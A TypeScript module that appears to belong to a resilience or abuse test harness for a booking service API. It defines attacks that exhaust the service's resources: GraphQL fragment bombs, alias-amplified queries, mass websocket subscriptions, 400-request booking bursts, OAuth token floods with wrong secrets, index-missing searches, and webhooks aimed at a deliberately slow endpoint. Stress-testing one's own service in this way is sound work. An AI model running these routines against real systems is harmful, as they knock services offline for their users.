import { createServer } from 'node:http';
import { createClient } from 'graphql-ws';
import { WebSocket } from 'ws';
import { badList, badListsByAlias, fragmentBomb, HEAVY_SUBSCRIPTION, slotsByAlias } from './documents.ts';
import { startOf } from './stage.ts';
import { ATTACKER_ADDRESS, type Attack, call, often, prefixOf, steadily, type Target } from './target.ts';

const SOCKETS = 15;
const SUBSCRIPTIONS_EACH = 20;
const BURST = 400;
const BURST_PAUSE_MS = 4_000;
/** After the bookings made by the attacker in advance. */
const FIRST_TURN = 40_000;
/** Requests of one client that are worked on together. */
const AT_ONCE = 16;
const SLOW_ANSWER_MS = 14_000;

const graphql = (target: Target, body: object, turn = 0) => call(target, 'POST', '/graphql', body, turn);

export const fragmentBombs: Attack = (target) => steadily(1, () => graphql(target, { query: fragmentBomb() }));

export const badLists: Attack = (target) => {
  const [lists, list] = [badListsByAlias(target.serviceId), badList()];
  const path = `${prefixOf(target)}/reservations`;
  return steadily(2, (turn) => (turn % 2 ? graphql(target, lists, turn) : call(target, 'POST', path, list, turn)));
};

export const aliasedSlots: Attack = (target) => {
  const query = slotsByAlias(target.serviceId);
  return steadily(4, (turn) => graphql(target, { query }, turn));
};

/** Sockets with the maximum number of subscriptions, and changes for them. */
export const subscriptions: Attack = async (target) => {
  class Local extends WebSocket {
    constructor(url: string, protocol: string) {
      super(url, protocol, { localAddress: ATTACKER_ADDRESS });
    }
  }
  for (let socket = 0; socket < SOCKETS; socket += 1) {
    const connectionParams = { authorization: `Bearer ${target.tokens[0]}` };
    const url = `${target.url.replace('http', 'ws')}/graphql`;
    const client = createClient({ url, webSocketImpl: Local, connectionParams, lazy: false, retryAttempts: 0 });
    for (let index = 0; index < SUBSCRIPTIONS_EACH; index += 1) {
      const nothing = () => undefined;
      client.subscribe({ query: HEAVY_SUBSCRIPTION }, { next: nothing, error: nothing, complete: nothing });
    }
  }
  await changes(target, 2);
};

/** 400 concurrent bookings, repeatedly. */
export const bookingBursts: Attack = async (target) => {
  for (let round = 0; ; round += 1) {
    const bookings = Array.from({ length: BURST }, (_, index) => {
      const turn = round * BURST + index;
      const employeeId = target.employeeIds[turn % target.employeeIds.length];
      const client = { firstName: 'Anna', email: `anna${index}@example.com` };
      const startAt = startOf(FIRST_TURN + turn, target);
      const { serviceId } = target;
      const booking = {
        serviceId,
        employeeId,
        employeeSelectionMode: 'SPECIFIC',
        startAt,
        client,
        notifyClient: false,
      };
      return call(target, 'POST', `${prefixOf(target)}/reservations`, booking, round);
    });
    await Promise.all(bookings);
    await new Promise((resolve) => setTimeout(resolve, BURST_PAUSE_MS));
  }
};

/** Token requests, half of them with wrong secrets. */
export const tokenFlood: Attack = (target) =>
  often(150, (turn) => {
    const credentials = target.credentials[turn % target.credentials.length];
    const wrong = turn % 2 ? { client_secret: 'ics_wrong' } : {};
    const body = { ...credentials, ...wrong, grant_type: 'client_credentials' };
    return call(target, 'POST', '/integrations/oauth/token', body);
  });

/** Searches of a catalog of the permitted size, whose version also rises every second. */
export const catalogSearches: Attack = (target) =>
  steadily(2, (turn) => {
    const search = `${prefixOf(target)}/catalog/services/search?q=ciecie%20damskie%20${turn % 7}`;
    const resolve = `${prefixOf(target)}/catalog/resolve`;
    if (turn % 3 === 0) return call(target, 'GET', `${prefixOf(target)}/catalog`, undefined, turn);
    return turn % 3 === 1
      ? call(target, 'GET', search, undefined, turn)
      : call(target, 'POST', resolve, { serviceQuery: `ciecie ${turn % 5}` }, turn);
  });

/** Pages of the event log with a name that no entry has, from all clients as many at once as each may have. */
export const logPages: Attack = (target) =>
  steadily(target.tokens.length * AT_ONCE, (turn) =>
    call(target, 'GET', `${prefixOf(target)}/events?limit=1&type=booking.declined`, undefined, turn),
  );

/** Searches for two letters, which no index finds, in the same way. */
export const clientSearches: Attack = (target) =>
  steadily(target.tokens.length * AT_ONCE, (turn) =>
    call(target, 'GET', `${prefixOf(target)}/clients/search?search=xq`, undefined, turn),
  );

/** Subscriptions of all clients whose endpoint answers so late that it never fails. */
export const slowEndpoints: Attack = async (target) => {
  const server = createServer((_request, response) => {
    setTimeout(() => response.writeHead(200).end(), SLOW_ANSWER_MS);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/hook`;
  for (let turn = 0; turn < target.tokens.length * SUBSCRIPTIONS_EACH; turn += 1) {
    await call(target, 'POST', `${prefixOf(target)}/webhooks`, { url, events: ['*'] }, turn);
  }
  await changes(target, 1);
};

function changes(target: Target, perSecond: number): Promise<void> {
  const { reservationIds } = target;
  return often(perSecond, (turn) => {
    const path = `${prefixOf(target)}/reservations/${reservationIds[turn % reservationIds.length]}`;
    return call(target, 'PATCH', path, { clientNote: `turn ${turn}` }, turn);
  });
}
